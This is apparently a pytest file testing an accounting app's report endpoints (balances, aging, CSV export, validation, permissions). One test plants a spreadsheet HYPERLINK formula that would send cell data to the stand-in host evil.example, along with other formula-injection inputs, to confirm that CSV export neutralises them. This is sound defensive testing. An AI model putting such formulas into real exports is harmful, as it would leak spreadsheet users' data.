"""Reports a controller reads: statements balance, aging buckets, CSV, and errors for bad requests."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from ledger import services

D = Decimal


@pytest.fixture
def books(silo, customer, other_customer, vendor, roles, account):
    """A small set of books: two invoices (one overdue), a bill, a receipt with credit left, a payment."""
    old = services.invoice_post(invoice=services.invoice_create(
        customer=customer, invoice_date=date(2026, 1, 2), due_date=date(2026, 1, 12),
        lines=[{"description": "Chuck rolls", "quantity_lb": "500.00", "price_per_lb": "4.0000"}],
    ))  # fmt: skip
    new = services.invoice_post(invoice=services.invoice_create(
        customer=other_customer, invoice_date=date(2026, 3, 1), due_date=date(2026, 3, 31),
        lines=[{"description": "Ribeye", "amount": "1500.00"}],
    ))  # fmt: skip
    bill = services.bill_post(bill=services.bill_create(
        vendor=vendor, bill_date=date(2026, 1, 5), due_date=date(2026, 1, 20),
        lines=[{"description": "Carcasses", "amount": "1200.00", "account": account("1210")},
               {"description": "Utilities", "amount": "300.00", "account": account("6100")}],
    ))  # fmt: skip
    services.receipt_create(
        customer=customer, date=date(2026, 2, 1), amount=D("800.00"), method="check",
        applications=[{"invoice": old, "amount": D("500.00")}],
    )  # fmt: skip
    services.payment_create(
        vendor=vendor, date=date(2026, 2, 2), amount=D("1000.00"), method="ach",
        applications=[{"bill": bill, "amount": D("1000.00")}],
    )  # fmt: skip
    return {"old": old, "new": new, "bill": bill}


def test_trial_balance_and_balance_sheet_balance_with_current_earnings(api, books, roles):
    tb = api.get("/api/v2/reports/trial-balance/", {"as_of": "2026-03-31"}).json()
    assert tb["balanced"] and tb["totals"]["debit"] == tb["totals"]["credit"] == "4200.00"
    by_role = {row["code"]: row for row in tb["rows"]}
    assert by_role[roles["cash"].code]["credit"] == "200.00"  # 800 in, 1000 out
    assert by_role[roles["accounts_receivable"].code]["debit"] == "2700.00"  # 2000 + 1500 - 800
    bs = api.get("/api/v2/reports/balance-sheet/", {"as_of": "2026-03-31"}).json()
    assert bs["balanced"]
    assert bs["totals"]["assets"] == "3700.00"  # -200 cash + 2700 AR + 1200 supplies (1210)
    assert bs["totals"]["liabilities"] == "500.00" and bs["totals"]["current_earnings"] == "3200.00"
    assert bs["totals"]["liabilities_and_equity"] == "3700.00"
    early = api.get("/api/v2/reports/balance-sheet/", {"as_of": "2026-01-31"}).json()
    assert early["balanced"] and early["totals"]["assets"] == "3200.00"


def test_income_statement_and_general_ledger_with_running_balance(api, books, roles):
    inc = api.get("/api/v2/reports/income-statement/", {"from": "2026-01-01", "to": "2026-01-31"}).json()
    assert inc["totals"] == {"revenue": "2000.00", "expenses": "300.00", "net_income": "1700.00"}
    gl = api.get("/api/v2/reports/general-ledger/", {"account": roles["accounts_receivable"].code,
                                                      "from": "2026-01-15", "to": "2026-12-31"}).json()  # fmt: skip
    assert gl["totals"]["opening_balance"] == "2000.00"
    assert [row["balance"] for row in gl["rows"]] == ["1200.00", "2700.00"]
    assert gl["rows"][0]["credit"] == "800.00" and gl["totals"]["closing_balance"] == "2700.00"


def test_ar_and_ap_aging_buckets_reconcile_to_the_control_accounts(api, books, customer, other_customer, vendor):
    ar = api.get("/api/v2/reports/ar-aging/", {"as_of": "2026-03-31"}).json()
    rows = {row["customer"]: row for row in ar["rows"]}
    # Old invoice: due 12 Jan, 1500 open on 31 Mar = 78 days late; 300 unapplied credit.
    assert rows[customer.pk]["days_61_90"] == "1500.00" and rows[customer.pk]["unapplied_credit"] == "-300.00"
    assert rows[other_customer.pk]["current"] == "1500.00"
    assert ar["totals"]["total"] == "3000.00" and ar["totals"]["net"] == "2700.00"  # = AR balance
    as_of_feb = api.get("/api/v2/reports/ar-aging/", {"as_of": "2026-02-15"}).json()
    assert {row["customer"]: row["days_31_60"] for row in as_of_feb["rows"]}[customer.pk] == "1500.00"
    ap = api.get("/api/v2/reports/ap-aging/", {"as_of": "2026-06-30"}).json()
    assert ap["rows"][0]["vendor"] == vendor.pk and ap["rows"][0]["over_90"] == "500.00"


def test_reports_as_csv_for_spreadsheets(api, books):
    r = api.get("/api/v2/reports/ar-aging/", {"as_of": "2026-03-31", "format": "csv"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(r.content.decode())))
    assert table[0][:4] == ["customer", "code", "name", "current"]
    assert table[-1][0] == "TOTAL" and table[-1][-1] == "2700.00"
    bad = api.get("/api/v2/reports/trial-balance/", {"as_of": "yesterday", "format": "csv"})
    assert bad.status_code == 400 and bad.json()["errors"][0]["field"] == "as_of"


def test_csv_cells_cannot_be_spreadsheet_formulas_and_numbers_stay_numbers(api, books, customer):
    """OWASP CSV injection: text starting =, +, -, @, tab or CR is prefixed with ' ; -300.00 stays a number."""
    customer.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    customer.code = "+CMD"
    customer.save(update_fields=["name", "code"])
    r = api.get("/api/v2/reports/ar-aging/", {"as_of": "2026-03-31", "format": "csv"})
    table = list(csv.reader(io.StringIO(r.content.decode())))
    rows = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    row = rows[str(customer.pk)]
    assert row["name"] == "'" + customer.name and row["code"] == "'+CMD"
    assert row["unapplied_credit"] == "-300.00" and row["days_61_90"] == "1500.00"
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for line in table for cell in line)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-150.00", "-150.00"),
        ("-7", "-7"),
        ("-1+1", "'-1+1"),
        ("-1e5", "'-1e5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("Ribeye", "Ribeye"),
        (None, ""),
        (Decimal("-2.50"), Decimal("-2.50")),
    ],
)
def test_csv_cell(value, cell):
    from cashsheet.api.csv import csv_cell

    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "name, params, field",
    [
        ("trial-balance", {"as_of": "2026-13-01"}, "as_of"),
        ("income-statement", {"from": "2026-03-01", "to": "2026-01-01"}, "from"),
        ("general-ledger", {}, "account"),
        ("general-ledger", {"account": "nope"}, "account"),
        ("balance-sheet", {"asof": "2026-01-01"}, "asof"),
    ],
)
def test_bad_report_parameters_answer_400(api, name, params, field):
    r = api.get(f"/api/v2/reports/{name}/", params)
    assert r.status_code == 400 and r.json()["errors"][0]["field"] == field


def test_report_index_and_unknown_report(api):
    index = api.get("/api/v2/reports/").json()
    names = [r["name"] for r in index["results"]]
    ledger = ["trial-balance", "balance-sheet", "income-statement", "general-ledger", "ar-aging", "ap-aging"]
    assert [n for n in names if n in ledger] == ledger  # other apps register theirs beside (trace, recall, ...)
    assert index["results"][names.index("general-ledger")]["parameters"]["account"].startswith("account id")
    r = api.get("/api/v2/reports/cash-flow/")
    assert r.status_code == 404 and r.json()["reports"] == names and "trial-balance" in r.json()["detail"]


def test_report_permissions(make_user, client_for):
    clerk = client_for(make_user("ledger.view_invoice"))
    assert clerk.get("/api/v2/reports/ar-aging/").status_code == 200
    assert clerk.get("/api/v2/reports/trial-balance/").status_code == 403
    assert clerk.get("/api/v2/reports/ap-aging/").status_code == 403
